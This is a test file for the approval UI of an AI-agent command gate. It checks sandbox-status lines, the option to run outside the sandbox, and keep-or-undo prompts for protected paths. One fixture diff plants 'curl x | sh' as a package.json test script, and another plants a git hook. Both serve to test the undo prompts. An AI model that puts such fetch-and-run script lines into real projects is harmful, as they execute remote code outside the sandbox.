// @vitest-environment jsdom
import "./support/shims";
import { cleanup, fireEvent, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import type { SandboxOutlook, TaskMessage } from "../../src/shared/messages";
import type { SandboxView } from "../../src/shared/protocol";
import { AskDock } from "../src/chat/AskDock";
import { AutoApproveMenu } from "../src/chat/AutoApproveMenu";
import { Row } from "../src/rows/Row";
import { message, settingsView, setup, tool } from "./support/render";

afterEach(cleanup);

function commandAsk(outlook: SandboxOutlook | undefined, sandboxed?: boolean): TaskMessage {
  return message({
    kind: "tool",
    role: "ask",
    askState: "pending",
    tool: tool(
      "execute_command",
      { command: "touch ../x" },
      {
        status: "pending",
        decision: { decision: "ask", reason: "not in your allow list", rule: "commands.allowList" },
        ...(outlook ? { sandboxOutlook: outlook } : {}),
        ...(sandboxed !== undefined ? { sandboxed } : {}),
      },
    ),
  });
}

describe("approval card: the sandbox line, before the click", () => {
  it.each([
    [{ sandboxed: true, network: "off" } as const, "runs in the OS sandbox (no network)"],
    [{ sandboxed: true, network: "hosts" } as const, "runs in the OS sandbox (network: host list)"],
    [
      { sandboxed: true, network: "off", grant: "read-only", hosts: [] } as const,
      "runs in the OS sandbox (read-only, no network)",
    ],
    [
      { sandboxed: true, network: "hosts", grant: "workspace-write", hosts: ["registry.npmjs.org"] } as const,
      "runs in the OS sandbox (may write the workspace, network only to registry.npmjs.org)",
    ],
    [
      {
        sandboxed: true,
        network: "off",
        grant: "read-only",
        hosts: [],
        readPaths: ["/home/me/notes/todo.txt"],
      } as const,
      "runs in the OS sandbox (read-only, no network; approving lets this run read /home/me/notes/todo.txt)",
    ],
    [{ sandboxed: false, reason: "toolgate.sandbox.mode is off" }, "runs unsandboxed — toolgate.sandbox.mode is off"],
  ])("%j → %s", (outlook, text) => {
    setup().view(<AskDock message={commandAsk(outlook)} />);
    expect(screen.getByLabelText("OS sandbox").textContent).toBe(text);
  });

  it("without an outlook, a known unsandboxed run still says so; otherwise no line", () => {
    setup().view(<AskDock message={commandAsk(undefined, false)} />);
    expect(screen.getByLabelText("OS sandbox").textContent).toBe("runs unsandboxed");
    cleanup();
    setup().view(<AskDock message={commandAsk(undefined)} />);
    expect(screen.queryByLabelText("OS sandbox")).toBeNull();
  });
});

describe("approval card: running outside the sandbox is its own button", () => {
  it("offered only where the host says it may be: the click approves with approveOutsideSandbox", () => {
    const ui = setup();
    const ask = commandAsk({
      sandboxed: true,
      network: "off",
      grant: "workspace-write",
      hosts: [],
      canRunOutside: true,
    });
    ui.view(<AskDock message={ask} />);
    fireEvent.click(screen.getByRole("button", { name: "Run outside the sandbox" }));
    expect(ui.intents()).toContainEqual({
      type: "answerAsk",
      messageId: ask.id,
      response: { kind: "approveOutsideSandbox" },
    });
    expect(ui.intents().some((m) => (m.response as { kind?: string } | undefined)?.kind === "approve")).toBe(false);
  });

  it.each([
    ["plan mode or a host that does not offer it", { sandboxed: true, network: "off", grant: "read-only" } as const],
    ["a command that runs unsandboxed anyway", { sandboxed: false, reason: "toolgate.sandbox.mode is off" }],
  ])("not offered for %s", (_what, outlook) => {
    setup().view(<AskDock message={commandAsk(outlook)} />);
    expect(screen.getByRole("button", { name: "Approve" })).not.toBeNull();
    expect(screen.queryByRole("button", { name: "Run outside the sandbox" })).toBeNull();
  });
});

const changes: TaskMessage = message({
  kind: "protected_changes",
  role: "ask",
  askState: "pending",
  text: "The command changed a protected path. Keep or remove?",
  protectedChanges: [
    { path: "/ws/.git", kind: "appeared", what: "a git directory" },
    {
      path: "/ws/.git/hooks/pre-commit",
      kind: "appeared",
      what: "a git hook",
      within: "/ws/.git",
      preview: "#!/bin/sh\necho planted",
    },
  ],
});

describe("protected-path changes: keep or remove", () => {
  it("lists each change with its kind and the hook's first lines", () => {
    setup().view(<AskDock message={changes} />);
    const card = screen.getByRole("region", { name: "A sandboxed command changed protected paths" });
    const list = within(card).getByRole("list", { name: "Protected paths changed" });
    const items = within(list).getAllByRole("listitem");
    expect(items[0]!.textContent).toContain("appeared");
    expect(items[0]!.textContent).toContain("/ws/.git");
    expect(items[1]!.textContent).toContain("inside it");
    expect(within(card).getByLabelText("First lines of /ws/.git/hooks/pre-commit").textContent).toContain(
      "echo planted",
    );
  });

  it("Remove (undo) is the primary answer and sends reject; Keep sends approve", async () => {
    const s = setup();
    s.view(<AskDock message={changes} />);
    const remove = screen.getByText("Remove (undo)");
    expect(remove.closest("vscode-button, button")?.getAttribute("appearance")).not.toBe("secondary");
    fireEvent.click(remove);
    expect(s.intents()).toEqual([{ type: "answerAsk", messageId: changes.id, response: { kind: "reject" } }]);
    await s.reply(true);
    cleanup();
    const s2 = setup();
    s2.view(<AskDock message={changes} />);
    fireEvent.click(screen.getByText("Keep"));
    expect(s2.intents()).toEqual([{ type: "answerAsk", messageId: changes.id, response: { kind: "approve" } }]);
  });

  it("the row in the history shows what was done", () => {
    const done = {
      ...changes,
      askState: "answered" as const,
      protectedChanges: changes.protectedChanges!.map((c) => ({ ...c, outcome: "removed" as const })),
    };
    setup().view(<Row message={done} />);
    expect(screen.getAllByText(/— removed/)).toHaveLength(2);
    expect(screen.getByText("Answered")).toBeTruthy();
  });
  it("a change the person edited after the command says it was kept, not undone", () => {
    const done = {
      ...changes,
      askState: "answered" as const,
      protectedChanges: changes.protectedChanges!.map((c) => ({ ...c, outcome: "changedSince" as const })),
    };
    setup().view(<Row message={done} />);
    expect(screen.getAllByText(/— kept: it changed after the command, so it was not undone/)).toHaveLength(2);
  });
});

describe("files that run code later: keep or undo, with the diff", () => {
  const scripts = message({
    kind: "protected_changes",
    role: "ask",
    askState: "pending",
    text: "The command changed a file that runs code later. Keep or undo?",
    protectedChanges: [
      {
        path: "/ws/package.json",
        kind: "changed",
        what: "package.json scripts (run by npm, pnpm, yarn)",
        runsCode: true,
        diff: '  "scripts": {\n-     "test": "node test.js"\n+     "test": "curl x | sh"\n  }',
      },
    ],
  });

  it("says the file runs code later and shows removed and added lines", () => {
    setup().view(<AskDock message={scripts} />);
    const card = screen.getByRole("region", { name: "A sandboxed command changed files that run code later" });
    expect(card.textContent).toContain("run later, outside the sandbox");
    within(card).getByRole("list", { name: "Files changed" });
    const diff = within(card).getByLabelText("Changes to /ws/package.json");
    expect(diff.querySelector(".tg-line-removed")?.textContent).toContain('"test": "node test.js"');
    expect(diff.querySelector(".tg-line-added")?.textContent).toContain('"test": "curl x | sh"');
    expect(diff.querySelectorAll(".tg-line-removed, .tg-line-added")).toHaveLength(2);
    expect(within(card).getByText("Undo").closest("vscode-button, button")?.getAttribute("appearance")).not.toBe(
      "secondary",
    );
  });
});

function menu(sandbox: SandboxView) {
  setup().view(<AutoApproveMenu settings={settingsView({ sandbox })} open={true} onOpenChange={() => undefined} />);
  return screen.getByRole("note", { name: "OS sandbox" }).textContent ?? "";
}

describe("auto-approve dropdown: the sandbox state", () => {
  it("available: the mechanism, the network and the mode", () => {
    const text = menu({ available: true, mechanism: "bubblewrap", reason: "ok", mode: "auto", network: "off" });
    expect(text).toContain("run in the OS sandbox (bubblewrap, no network)");
    expect(text).toContain("Mode: auto");
  });

  it("unavailable: the reason with its fix, and what the mode makes of it", () => {
    const reason = "bubblewrap (bwrap) is not installed: install the `bubblewrap` package (apt install bubblewrap)";
    expect(menu({ available: false, mechanism: "none", reason, mode: "required", network: "off" })).toContain(
      `Unavailable: ${reason}. Commands that would run without a click ask instead`,
    );
    cleanup();
    expect(menu({ available: false, mechanism: "none", reason, mode: "auto", network: "off" })).toContain(
      "Commands run unsandboxed; the gate alone decides",
    );
  });

  it("off says so", () => {
    expect(menu({ available: true, mechanism: "bubblewrap", reason: "ok", mode: "off", network: "off" })).toContain(
      "Off (toolgate.sandbox.mode)",
    );
  });
});
